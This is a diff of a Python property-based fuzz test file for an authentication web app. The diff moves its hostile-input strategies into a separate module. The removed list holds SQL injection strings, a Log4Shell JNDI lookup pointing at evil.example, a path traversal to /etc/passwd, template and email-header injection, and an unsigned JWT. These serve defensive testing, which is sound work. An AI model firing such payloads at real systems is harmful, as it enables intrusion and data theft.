@@ -14,6 +14,7 @@ from authapp import create_app
 from authapp.testing import TEST_SETTINGS, empty_tables
 from tests.conftest import MakeApp
 from tests.factories import ALICE, BOB, OTHER_PASSWORD, PASSWORD, Api, make_user
+from tests.hostile.odd import content_types, header_texts, methods, odd_texts, texts, values
 
 KNOWN = {
     "BAD_REQUEST": {400},
@@ -52,59 +53,11 @@ FIELDS += ["new_password", "current_password", "new_email"]
 hostile = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 
 paths = st.sampled_from(POSTS)
-odd_texts = st.sampled_from(
-    [
-        "",
-        " ",
-        "\x00",
-        "\ud800",
-        "' OR 1=1 --",
-        '"; DROP TABLE auth_user; --',
-        "%",
-        "_",
-        "\\",
-        "{{7*7}}",
-        "${jndi:ldap://evil.example}",
-        "../../etc/passwd",
-        "a" * 5000,
-        "🎉" * 200,
-        "é",
-        "e\u0301",
-        "\u202e",
-        "\ufeff",
-        "\uffff",
-        "\U0010ffff",
-        "0",
-        "null",
-        "true",
-        "1e309",
-        ALICE,
-        ALICE.upper(),
-        f" {ALICE}",
-        f"{ALICE}\r\nBcc: bob@example.org",
-        "alice@ex\u00e4mple.org",
-        "alice@\u2488com",
-        "alice@xn--a",
-        PASSWORD,
-        "https://example.org/a.png",
-        "eyJhbGciOiJub25lIn0.e30.",
-        "a.b.c",
-        "....",
-    ]
-)
-# Not only characters that can be encoded: JSON may escape half of a surrogate pair.
-texts = odd_texts | st.text(st.characters(codec=None, exclude_categories=[]), max_size=40)
-values = st.recursive(
-    st.none() | st.booleans() | st.integers() | st.floats() | texts,
-    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
-    max_leaves=6,
-)
 fields = st.sampled_from(FIELDS) | texts
 bodies = st.dictionaries(fields, texts | values, max_size=5) | st.fixed_dictionaries(
     {"email": texts | st.just(ALICE), "password": texts | st.just(PASSWORD)},
     optional={"name": texts, "photo": texts, "password_confirm": texts},
 )
-header_texts = st.text(st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=60)
 headers = st.dictionaries(
     st.sampled_from(
         ["Authorization", "X-Request-ID", "User-Agent", "Accept", "Cookie", "Origin", "X-Forwarded-For", "Host"]
@@ -112,21 +65,6 @@ headers = st.dictionaries(
     header_texts | header_texts.map(lambda text: f"Bearer {text}") | st.just("Bearer " + "a" * 5000),
     max_size=4,
 )
-content_types = st.sampled_from(
-    [
-        "application/json",
-        "application/json; charset=utf-8",
-        "application/json; charset=utf-7",
-        "application/json; charset=\x00",
-        "application/x-www-form-urlencoded",
-        "multipart/form-data",
-        "multipart/form-data; boundary=x",
-        "text/plain",
-        "",
-        ";;;=",
-    ]
-)
-methods = st.sampled_from(["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "X"])
 
 
 def check(answer: TestResponse) -> tuple[int, str | None]:
